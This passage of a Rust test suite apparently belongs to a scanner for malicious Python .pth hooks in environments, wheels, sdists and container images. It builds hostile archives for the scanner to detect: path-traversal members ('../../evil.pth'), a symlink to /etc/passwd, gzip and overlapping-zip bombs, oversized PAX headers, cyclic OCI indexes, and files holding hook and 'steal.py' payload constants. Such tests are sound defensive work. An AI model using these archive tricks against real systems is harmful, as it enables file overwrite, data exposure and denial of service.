        name: "hooks vanishing and reappearing during the scan",
        build: |d| {
            for i in 0..200 {
                write(&sp(d).join(format!("c{i}.pth")), EXEC_LINE);
            }
            churn(&sp(d), |dir, i| {
                let p = dir.join(format!("c{}.pth", i % 200));
                if i % 2 == 0 {
                    let _ = std::fs::remove_file(&p);
                } else {
                    let _ = std::fs::write(&p, EXEC_LINE);
                }
            })
        },
        args: &[],
        expect: &[],
        unprivileged: false,
    },
    Case {
        name: "a module growing and shrinking during a --deep scan",
        build: |d| {
            write(&sp(d).join("pkg/grow.py"), b"x = 1\n");
            churn(&sp(d), |dir, i| {
                let p = dir.join("pkg/grow.py");
                let size = (i % 64) << 16;
                let _ = std::fs::write(&p, vec![b'#'; size]);
            })
        },
        args: &["--deep"],
        expect: &[],
        unprivileged: false,
    },
    Case {
        name: "a truncated wheel",
        build: |d| {
            let mut whl = zip_of(&[("x/__init__.py", b"x = 1\n"), ("x.pth", EXEC_LINE)]);
            whl.truncate(whl.len() - 30);
            write(&d.join("w/cut-1.0-py3-none-any.whl"), &whl);
            None
        },
        args: &[],
        expect: &[Problem("cut-1.0-py3-none-any.whl", "")],
        unprivileged: false,
    },
    Case {
        name: "a wheel member climbing out with ..",
        build: |d| {
            let whl = zip_of(&[("../../evil.pth", EXEC_LINE)]);
            write(&d.join("w/up-1.0-py3-none-any.whl"), &whl);
            None
        },
        args: &[],
        expect: &[Finding(
            "ARC001",
            "up-1.0-py3-none-any.whl › ../../evil.pth",
        )],
        unprivileged: false,
    },
    Case {
        name: "an sdist whose symlink member points out",
        build: |d| {
            let mut b = tar::Builder::new(Vec::new());
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(tar::EntryType::Symlink);
            h.set_size(0);
            b.append_link(&mut h, "pkg-1.0/setup.py", "/etc/passwd")
                .unwrap();
            write(&d.join("w/pkg-1.0.tar.gz"), &gzip(&b.into_inner().unwrap()));
            None
        },
        args: &[],
        expect: &[Finding("ARC001", "pkg-1.0.tar.gz › pkg-1.0/setup.py")],
        unprivileged: false,
    },
    Case {
        name: "a gzip bomb sdist",
        build: |d| {
            let zeros = vec![0u8; 1 << 30];
            let plain = tar_of(&[("pkg-1.0/setup.py", &zeros)]);
            write(&d.join("w/pkg-1.0.tar.gz"), &gzip(&plain));
            None
        },
        args: &[],
        expect: &[Problem("pkg-1.0.tar.gz", "bomb")],
        unprivileged: false,
    },
    Case {
        name: "archives nested ten deep",
        build: |d| {
            let mut inner = zip_of(&[("x.pth", EXEC_LINE)]);
            for i in 0..10 {
                inner = zip_of(&[(&format!("l{i}.zip"), &inner)]);
            }
            write(&d.join("w/deep.zip"), &inner);
            None
        },
        args: &[],
        expect: &[Problem("l8.zip", "deeper than the depth limit")],
        unprivileged: false,
    },
    Case {
        name: "a directory named as a hook",
        build: |d| {
            std::fs::create_dir_all(sp(d).join("dir.pth")).unwrap();
            None
        },
        args: &[],
        expect: &[Problem("dir.pth", "not a regular file (directory)")],
        unprivileged: false,
    },
    Case {
        name: "a RECORD of a million rows",
        build: |d| {
            let info = sp(d).join("huge-1.0.dist-info");
            let mut record = String::new();
            for i in 0..1_000_000 {
                record.push_str(&format!("huge/m{i}.py,sha256=AAAA,10\n"));
            }
            write(&info.join("RECORD"), record.as_bytes());
            write(
                &info.join("METADATA"),
                b"Metadata-Version: 2.1\nName: huge\nVersion: 1.0\n\n",
            );
            None
        },
        args: &[],
        expect: &[Problem(
            "huge-1.0.dist-info/RECORD",
            "its files were not checked",
        )],
        unprivileged: false,
    },
    Case {
        name: "overlapping zip: 40 central entries on one 50 MiB deflate stream",
        build: |d| {
            let (body, crc) = deflated_zeros(50 << 20);
            let names: Vec<String> = (0..40).map(|i| format!("pkg/m{i}.py")).collect();
            let central: Vec<(&str, usize)> = names.iter().map(|n| (n.as_str(), 0)).collect();
            let zip = hand_zip(&[("pkg/m0.py", &body, crc, 50 << 20)], &central);
            assert!(zip.len() < 64 << 10, "{} bytes", zip.len());
            write(&d.join("w/overlap.zip"), &zip);
            None
        },
        args: &[],
        expect: &[
            Finding("ARC006", "overlap.zip"),
            Problem("overlap.zip › pkg/m0.py", "bomb"),
        ],
        unprivileged: false,
    },
    Case {
        name: "an sdist with one 64 KiB PAX path",
        build: |d| {
            let sdist = pax_path_sdist(64 << 10);
            assert!(sdist.len() < 1024, "{} bytes", sdist.len());
            write(&d.join("w/pkg-1.0.tar.gz"), &sdist);
            None
        },
        args: &[],
        expect: &[
            Finding("ARC007", "pkg-1.0.tar.gz"),
            Problem("pkg-1.0.tar.gz", "extension header of"),
        ],
        unprivileged: false,
    },
    Case {
        name: "an sdist with one 256 KiB PAX path",
        build: |d| {
            write(&d.join("w/pkg-1.0.tar.gz"), &pax_path_sdist(256 << 10));
            None
        },
        args: &[],
        expect: &[
            Finding("ARC007", "pkg-1.0.tar.gz"),
            Problem("pkg-1.0.tar.gz", "extension header of"),
        ],
        unprivileged: false,
    },
    Case {
        name: "an sdist with a 32 KiB PAX path (under the header cap, over the name cap)",
        build: |d| {
            write(&d.join("w/pkg-1.0.tar.gz"), &pax_path_sdist(32 << 10));
            None
        },
        args: &[],
        expect: &[Finding("ARC007", "x/x/x/x/…")],
        unprivileged: false,
    },
    Case {
        name: "a wheel of 40 members of 50 MiB of zeros",
        build: |d| {
            zeros_wheel(&d.join("w/zeros-1.0-py3-none-any.whl"));
            None
        },
        args: &[],
        expect: &[
            Problem("zeros-1.0-py3-none-any.whl › zeros/m39.py", "bomb"),
            Finding("ARC007", "zeros-1.0-py3-none-any.whl › zeros/m39.py"),
        ],
        unprivileged: false,
    },
    Case {
        name: "a wheel of 40 members of 50 MiB of zeros, under --max-memory 64 MiB",
        build: |d| {
            zeros_wheel(&d.join("w/zeros-1.0-py3-none-any.whl"));
            None
        },
        args: &["--max-memory", "67108864"],
        expect: &[Problem(
            "zeros-1.0-py3-none-any.whl › zeros/m39.py",
            "memory budget",
        )],
        unprivileged: false,
    },
    Case {
        name: "a docker save (gzip) of 400 JSON members of 4 MiB, its config one of them",
        build: |d| {
            let layer = hook_layer();
            let manifest = serde_json::json!([{
                "Config": format!("{:064x}.json", 7),
                "RepoTags": ["junk:1"],
                "Layers": ["l/layer.tar"],
            }]);
            docker_save(
                &d.join("w/junk.tar.gz"),
                &manifest,
                &[("l/layer.tar", &layer)],
                400,
                4 << 20,
            );
            None
        },
        args: &[],
        expect: &[
            Finding(
                "PTH001",
                "junk.tar.gz › junk:1 › layer 1 › usr/local/lib/python3.12/site-packages/layer.pth",
            ),
            Finding(
                "ARC007",
                "junk.tar.gz › 0000000000000000000000000000000000000000000000000000000000000007.json",
            ),
            Problem("junk.tar.gz", "399 JSON documents past the"),
        ],
        unprivileged: false,
    },
    Case {
        name: "a manifest listing one layer 20,000 times",
        build: |d| {
            let layer = hook_layer();
            let manifest = serde_json::json!([{
                "Config": "c.json",
                "RepoTags": ["dup:1"],
                "Layers": vec!["l/layer.tar"; 20_000],
            }]);
            docker_save(
                &d.join("w/dup.tar"),
                &manifest,
                &[("l/layer.tar", &layer), ("c.json", b"{}")],
                0,
                0,
            );
            None
        },
        args: &[],
        expect: &[
            Once("PTH001", "site-packages/layer.pth"),
            Once("PTH001", "evil-1.0-py3-none-any.whl › evil_init.pth"),
            Finding("ARC007", "dup.tar"),
        ],
        unprivileged: false,
    },
    Case {
        name: "an empty docker manifest",
        build: |d| {
            docker_save(&d.join("w/empty.tar"), &serde_json::json!([]), &[], 0, 0);
            None
        },
        args: &[],
        expect: &[Problem("empty.tar", "manifest.json lists no image")],
        unprivileged: false,
    },
    Case {
        name: "an OCI index without manifests",
        build: |d| {
            oci_tar(
                &d.join("w/none.tar"),
                &serde_json::json!({"schemaVersion": 2, "manifests": []}),
                &[],
            );
            None
        },
        args: &[],
        expect: &[Problem("none.tar", "index.json leads to no image manifest")],
        unprivileged: false,
    },
    Case {
        name: "a cyclic OCI index: two nested indexes naming each other",
        build: |d| {
            let refer = |n: usize| {
                serde_json::to_vec(&serde_json::json!({"schemaVersion": 2, "manifests": [
                    {"mediaType": INDEX, "digest": digest(n), "size": 1},
                    {"mediaType": INDEX, "digest": digest(n), "size": 1},
                ]}))
                .unwrap()
            };
            oci_tar(
                &d.join("w/cycle.tar"),
                &serde_json::json!({"schemaVersion": 2, "manifests": [
                    {"mediaType": INDEX, "digest": digest(1), "size": 1}
                ]}),
                &[(digest(1), refer(2)), (digest(2), refer(1))],
            );
            None
        },
        args: &[],
        expect: &[
            Finding(
                "ARC007",
                "cycle.tar › blobs/sha256/0000000000000000000000000000000000000000000000000000000000000001",
            ),
            Problem("cycle.tar", "index.json leads to no image manifest"),
        ],
        unprivileged: false,
    },
    Case {
        name: "a docker save that is an OCI archive too, manifest.json and index.json naming other layers",
        build: |d| {
            let blob = |n: usize| format!("blobs/sha256/{n:064x}");
            let manifest = serde_json::json!([{
                "Config": blob(1),
                "RepoTags": ["dual:1"],
                "Layers": [blob(10)],
            }]);
            let oci = serde_json::json!({
                "schemaVersion": 2,
                "config": {"digest": digest(1), "size": 2},
                "layers": [{"digest": digest(11), "size": 1}],
            });
            let index = serde_json::json!({"schemaVersion": 2, "manifests": [{
                "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "digest": digest(3),
                "size": 1,
                "annotations": {"io.containerd.image.name": "docker.io/library/dual:1"},
            }]});
            let clean = tar_of(&[("usr/local/lib/python3.12/os.py", b"# os\n")]);
            dual_tar(
                &d.join("w/dual.tar"),
                &manifest,
                &index,
                &[
                    (digest(1), b"{}".to_vec()),
                    (digest(3), serde_json::to_vec(&oci).unwrap()),
                    (digest(10), clean),
                    (digest(11), hook_layer()),
                ],
            );
            None
        },
        args: &[],
        expect: &[
            Finding("ARC008", "dual.tar › index.json"),
            Finding(
                "PTH001",
                "dual.tar › docker.io/library/dual:1 (index.json) › layer 1 sha256:000000000000 › usr/local/lib/python3.12/site-packages/layer.pth",
            ),
        ],
        unprivileged: false,
    },
    Case {
        name: "an OCI tar with one layer blob twice, a clean copy first",
        build: |d| {
            let manifest = serde_json::json!({
                "schemaVersion": 2,
                "config": {"digest": digest(1), "size": 2},
                "layers": [{"digest": digest(10), "size": 1}],
            });
            let index = serde_json::json!({"schemaVersion": 2, "manifests": [{
                "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "digest": digest(3),
                "size": 1,
            }]});
            let clean = tar_of(&[("usr/local/lib/python3.12/os.py", b"# os\n")]);
            oci_tar(
                &d.join("w/twice.tar"),
                &index,
                &[
                    (digest(1), b"{}".to_vec()),
                    (digest(3), serde_json::to_vec(&manifest).unwrap()),
                    (digest(10), clean),
                    (digest(10), hook_layer()),
                ],
            );
            None
        },
        args: &[],
        expect: &[Finding(
            "ARC008",
            "twice.tar › blobs/sha256/000000000000000000000000000000000000000000000000000000000000000a",
        )],
        unprivileged: false,
    },
    Case {
        name: "an image layer whose imported package is a hard link through a symlinked directory, or to a symlink",
        build: |d| {
            for (name, through) in [("via-dir", true), ("to-symlink", false)] {
                let layer = hard_link_layer(through);
                let manifest = serde_json::json!([{
                    "Config": "c.json",
                    "RepoTags": [format!("{name}:1")],
                    "Layers": ["l/layer.tar"],
                }]);
                docker_save(
                    &d.join(format!("w/{name}.tar")),
                    &manifest,
                    &[("l/layer.tar", &layer), ("c.json", b"{}")],
                    0,
                    0,
                );
            }
            None
        },
        args: &[],
        expect: &[
            Finding(
                "obf-exec-decoded",
                "via-dir.tar › via-dir:1 › layer 1 › usr/local/lib/python3.12/site-packages/hookpkg/__init__.py",
            ),
            Finding(
                "obf-exec-decoded",
                "to-symlink.tar › to-symlink:1 › usr/local/lib/python3.12/site-packages/hookpkg/__init__.py",
            ),
        ],
        unprivileged: false,
    },
    Case {
        name: "OCI indexes nested 20 deep",
        build: |d| {
            let blobs: Vec<(String, Vec<u8>)> = (1..=20)
                .map(|n| {
                    let doc = serde_json::json!({"schemaVersion": 2, "manifests": [
                        {"mediaType": INDEX, "digest": digest(n + 1), "size": 1}
                    ]});
                    (digest(n), serde_json::to_vec(&doc).unwrap())
                })
                .collect();
            oci_tar(
                &d.join("w/deep.tar"),
                &serde_json::json!({"schemaVersion": 2, "manifests": [
                    {"mediaType": INDEX, "digest": digest(1), "size": 1}
                ]}),
                &blobs,
            );
            None
        },
        args: &[],
        expect: &[Finding(
            "ARC007",
            "deep.tar › blobs/sha256/0000000000000000000000000000000000000000000000000000000000000008",
        )],
        unprivileged: false,
    },
    Case {
        name: "an OCI layout whose index.json is a FIFO",
        build: |d| {
            // the case directory itself is the layout given as PATH
            write(
                &d.join("oci-layout"),
                b"{\"imageLayoutVersion\": \"1.0.0\"}",
            );
            std::fs::create_dir_all(d.join("blobs/sha256")).unwrap();
            mkfifo(&d.join("index.json"));
            None
        },
        args: &[],
        expect: &[Problem(
            "case",
            "cannot read `index.json`: not a regular file (FIFO)",
        )],
        unprivileged: false,
    },
    Case {
        name: "a 12 MB wheel past a quarter of the budget (--max-memory 64 MiB): read from the file",
        build: |d| {
            write(
                &d.join("w/big-1.0-py3-none-any.whl"),
                &zip_of(&[("big/data.bin", &noise(12 << 20)), ("big.pth", EXEC_LINE)]),
            );
            None
        },
        args: &["--max-memory", "67108864"],
        expect: &[Finding("PTH001", "big-1.0-py3-none-any.whl › big.pth")],
        unprivileged: false,
    },
    Case {
        name: "an image layer of two zstd frames, the hook in the second (runtimes decode every frame)",
        build: |d| {
            let layer = hook_layer();
            let (first, second) = layer.split_at(1024);
            let mut zst = raw_zstd_frame(first);
            zst.extend(raw_zstd_frame(second));
            let manifest = serde_json::json!([{
                "Config": format!("{:064x}.json", 7),
                "RepoTags": ["frames:1"],
                "Layers": ["l/layer.tar.zst"],
            }]);
            let config = serde_json::to_vec(&serde_json::json!({"history": []})).unwrap();
            docker_save(
                &d.join("w/frames.tar"),
                &manifest,
                &[
                    ("l/layer.tar.zst", &zst),
                    (&format!("{:064x}.json", 7), &config),
                ],
                0,
                0,
            );
            None
        },
        args: &[],
        expect: &[Finding(
            "PTH001",
            "frames.tar › frames:1 › layer 1 › usr/local/lib/python3.12/site-packages/layer.pth",
        )],
        unprivileged: false,
    },
    Case {
        name: "a 40 MB wheel past the budget (--max-memory 64 MiB, --deep), its payload deep inside: every member judged, read again from the file",
        build: |d| {
            let mut members: Vec<(String, Vec<u8>)> = (0..4)
                .map(|i| (format!("big/data{i}.bin"), noise(10 << 20)))
                .collect();
            members.push(("big/sub/steal.py".into(), PAYLOAD.to_vec()));
            let members: Vec<(&str, &[u8])> = members
                .iter()
                .map(|(n, b)| (n.as_str(), b.as_slice()))
                .collect();
            write(&d.join("w/big-1.0-py3-none-any.whl"), &zip_of(&members));
            None
        },
        args: &["--max-memory", "67108864", "--deep"],
        expect: &[Finding(
            "obf-exec-decoded",
            "big-1.0-py3-none-any.whl › big/sub/steal.py",
        )],
        unprivileged: false,
    },
    Case {
        name: "an image whose gzip layer holds 40 MB past the budget (--max-memory 64 MiB, --deep): payloads after it read again in one pass",
        build: |d| {
            let site = "usr/local/lib/python3.12/site-packages";
            let mut members: Vec<(String, Vec<u8>)> =
                vec![(format!("{site}/a/steal.py"), PAYLOAD.to_vec())];
            members.extend((0..4).map(|i| (format!("{site}/big/data{i}.bin"), noise(10 << 20))));
            members.push((format!("{site}/z/steal.py"), PAYLOAD.to_vec()));
            let members: Vec<(&str, &[u8])> = members
                .iter()
                .map(|(n, b)| (n.as_str(), b.as_slice()))
                .collect();
            let layer = gzip(&tar_of(&members));
            let manifest = serde_json::json!([{
                "Config": format!("{:064x}.json", 7),
                "RepoTags": ["big:1"],
                "Layers": ["l/layer.tar.gz"],
            }]);
            let config = serde_json::json!({"rootfs": {"type": "layers"}, "history": []});
            let config = serde_json::to_vec(&config).unwrap();
            docker_save(
                &d.join("w/big.tar"),
                &manifest,
                &[
                    ("l/layer.tar.gz", &layer),
                    (&format!("{:064x}.json", 7), &config),
                ],
                0,
                0,
            );
            None
        },
        args: &["--max-memory", "67108864", "--deep"],
        expect: &[
            Finding(
                "obf-exec-decoded",
                "big.tar › big:1 › layer 1 › usr/local/lib/python3.12/site-packages/a/steal.py",
            ),
            Finding(
                "obf-exec-decoded",
                "big.tar › big:1 › layer 1 › usr/local/lib/python3.12/site-packages/z/steal.py",
            ),
        ],
        unprivileged: false,
    },
    Case {
        name: "a hundred sparse 8 MiB hooks",
        build: |d| {
            for i in 0..100 {
                let f = std::fs::File::create(sp(d).join(format!("h{i}.pth"))).unwrap();
                std::io::Write::write_all(&mut &f, b"import os\n").unwrap();
                f.set_len(8 << 20).unwrap();
            }
            None
        },
        args: &[],
        expect: &[Problem(".pth", "budget for it")],
        unprivileged: false,
    },
    Case {
        name: "a hook of one statement of 300,000 import words",
        build: |d| {
            let hook = format!("import os;exec({})\n", "import ".repeat(300_000));
            write(&sp(d).join("words.pth"), hook.as_bytes());
            None
        },
        args: &[],
        expect: &[Finding("PTH001", "words.pth")],
        unprivileged: false,
    },
    Case {
        name: "one 8 MiB RECORD hard-linked into forty dist-info directories",
        build: |d| {
            let mut record = String::new();
            let mut i = 0;
            while record.len() < (8 << 20) - 64 {
                record.push_str(&format!("p/m{i:07}.py,,\n"));
                i += 1;
            }
            let first = sp(d).join("d0-1.0.dist-info/RECORD");
            write(&first, record.as_bytes());
            for n in 0..40 {
                let info = sp(d).join(format!("d{n}-1.0.dist-info"));
                write(
                    &info.join("METADATA"),
                    format!("Metadata-Version: 2.1\nName: d{n}\nVersion: 1.0\n\n").as_bytes(),
                );
                if n > 0 {
                    std::fs::hard_link(&first, info.join("RECORD")).unwrap();
                }
            }
            None
        },
        args: &[],
        expect: &[Problem(
            "-1.0.dist-info/RECORD",
            "its files were not checked",
        )],
        unprivileged: false,
    },
];

fn finding_matches(f: &serde_json::Value, rule: &str, path: &str) -> bool {
    f["rule"] == rule
        && f["location"]["path"]
            .as_str()
            .is_some_and(|p| p.ends_with(path))
}

#[expect(clippy::print_stderr, reason = "names the case whose peak follows")]
fn check(case: &Case) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let root = dir.path().join("case");
    write(&root.join("venv/pyvenv.cfg"), b"version = 3.12.4\n");
    std::fs::create_dir_all(sp(&root)).unwrap();
    // the canary: found whatever the hostile input does to the scan
    let canary = dir.path().join("canary");
    write(&canary.join("venv/pyvenv.cfg"), b"version = 3.12.4\n");
    write(&canary.join(SP).join("canary.pth"), EXEC_LINE);
    let churning = (case.build)(&root);
    let mut args: Vec<String> = vec![
        root.to_string_lossy().into_owned(),
        canary.to_string_lossy().into_owned(),
    ];
    args.extend(case.args.iter().map(|a| a.to_string()));
    eprint!("{}: ", case.name);
    let run = run_bounded(&args, case.unprivileged);
    if let Some(c) = churning {
        c.stop.store(true, std::sync::atomic::Ordering::Relaxed);
        assert!(
            c.thread.join().unwrap() > 0,
            "{}: nothing changed",
            case.name
        );
    }
    // restore permissions so the temporary directory can be removed
    for e in walkdir::WalkDir::new(dir.path()).into_iter().flatten() {
        if e.file_type().is_dir() || e.file_type().is_file() {
            let _ = std::fs::set_permissions(e.path(), std::fs::Permissions::from_mode(0o755));
        }
    }
    let name = case.name;
    let findings = run.json["findings"].as_array().unwrap();
    let diagnostics = run.json["diagnostics"].as_array().unwrap();
    let report = || format!("{name}: exit {}, stderr:\n{}", run.code, run.stderr);
    assert!(
        findings
            .iter()
            .any(|f| finding_matches(f, "PTH001", "canary.pth")),
        "{}: the scan did not go on to the canary",
        report()
    );
    assert!(
        run.max_rss_kb <= MAX_RSS_KB,
        "{name}: peak RSS {} KB over {MAX_RSS_KB} KB",
        run.max_rss_kb
    );
    assert!(!run.stderr.contains("panicked"), "{}", report());
    let in_case = |p: &serde_json::Value| {
        p["location"]["path"]
            .as_str()
            .or(p["path"].as_str())
            .is_some_and(|p| !p.contains("/canary/"))
    };
    for e in case.expect {
        match *e {
            Finding(rule, path) => assert!(
                findings.iter().any(|f| finding_matches(f, rule, path)),
                "{}: no {rule} on …{path}: {findings:#?}",
                report()
            ),
            FindingAt(rule, path, line) => assert!(
                findings
                    .iter()
                    .any(|f| finding_matches(f, rule, path) && f["location"]["line"] == line),
                "{}: no {rule} on …{path}:{line}: {findings:#?}",
                report()
            ),
            Problem(path, text) => {
                assert!(
                    diagnostics
                        .iter()
                        .any(|d| d["path"].as_str().is_some_and(|p| p.contains(path))
                            && d["message"].as_str().unwrap().contains(text)),
                    "{}: no problem `{text}` on …{path}: {diagnostics:#?}",
                    report()
                );
                // named on stderr too, unless --quiet
                assert!(run.stderr.contains(text), "{}", report());
            }
            Once(rule, path) => {
                let n = findings
                    .iter()
                    .filter(|f| finding_matches(f, rule, path))
                    .count();
                assert_eq!(n, 1, "{}: {rule} on …{path}: {findings:#?}", report());
            }
            Nothing => {
                assert!(!findings.iter().any(in_case), "{}: {findings:#?}", report());
                assert!(
                    !diagnostics.iter().any(in_case),
                    "{}: {diagnostics:#?}",
                    report()
                );
            }
        }
    }
    // the canary is high, so exit 1 whatever could not be read; the report says apart whether
    // something was not judged
    let incomplete = diagnostics.iter().any(|d| d["incomplete"] == true);
    assert_eq!(run.code, 1, "{}", report());
    assert_eq!(
        run.json["summary"]["incomplete"],
        incomplete,
        "{}",
        report()
    );
    let skipped = diagnostics
        .iter()
        .filter(|d| d["incomplete"] == true)
        .count();
    assert_eq!(run.json["summary"]["skipped"], skipped, "{}", report());
}

#[test]
fn hostile_inputs_each_get_their_outcome_and_the_scan_goes_on() {
    assert!(CASES.len() >= 30, "{} cases", CASES.len());
    let only = std::env::var("PTHSCAN_HOSTILE").ok();
    for case in CASES {
        if only.as_deref().is_some_and(|o| !case.name.contains(o)) {
            continue;
        }
        check(case);
    }
}
